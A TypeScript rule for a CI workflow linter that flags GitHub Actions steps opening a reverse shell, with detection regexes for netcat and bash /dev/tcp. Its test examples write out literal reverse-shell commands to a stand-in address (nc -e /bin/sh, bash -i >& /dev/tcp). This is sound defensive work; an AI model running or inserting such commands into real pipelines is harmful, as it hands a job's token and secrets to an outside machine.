import { bad, defineRule, good } from '../rule.ts';
import { steps } from '../shared/workflow-example.ts';
import { stepCommands } from '../shared/workflow-run.ts';

export default defineRule({
  id: 'reverse-shell',
  area: 'ci',
  severity: 'critical',
  aliases: ['checkov:CKV_GHA_4'],
  title: 'A step opens a shell to another machine',
  why: 'Whoever listens there works in the job, with its token and secrets.',
  fix: 'Remove the command, and find out who put it there.',
  references: ['https://docs.github.com/en/actions/reference/security/secure-use'],
  on: 'step',
  only: ['run'],
  *check(step) {
    for (const { program, words, span, start } of stepCommands(step)) {
      const isNetcat =
        /^(?:nc|ncat|netcat)$/.test(program) && words.some((word) => /^-\w*[ec]$|^--exec/.test(word));
      const text = step.run?.value.slice(start) ?? '';
      const isBash = /^(?:ba|z)?sh$/.test(program) && /^\S+\s+-i\b[^\n]*\/dev\/tcp\//.test(text);
      if (isNetcat || isBash) yield { at: span, message: `${program} hands a shell to another machine` };
      else if (opensConnection(program, words)) {
        const message = `${program} talks to a machine that is named by its address only`;
        yield { at: span, message, severity: 'medium', confidence: 'possible' };
      }
    }
  },
  examples: [
    bad(
      steps(`
      - run: nc -e /bin/sh 203.0.113.9 4444
      - run: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
    `),
      ['.github/workflows/ci.yml:6:14', '.github/workflows/ci.yml:7:14'],
    ),
    bad(
      steps(`
      - run: nc 203.0.113.9 4444
    `),
      '.github/workflows/ci.yml:6:14',
    ),
    good(
      steps(`
      - run: nc -z localhost 5432
      - run: nc -zv 10.0.0.7 5432 && nc 127.0.0.1 5432 < in.txt
    `),
    ),
  ],
});

/** Not a look whether a port is open, and not this machine. */
function opensConnection(program: string, words: readonly string[]): boolean {
  if (!/^(?:nc|ncat|netcat)$/.test(program) || words.some((word) => /^-\w*[zl]/.test(word))) return false;
  return words.some((word) => /^(?!127\.|0\.)\d{1,3}(?:\.\d{1,3}){3}$/.test(word));
}
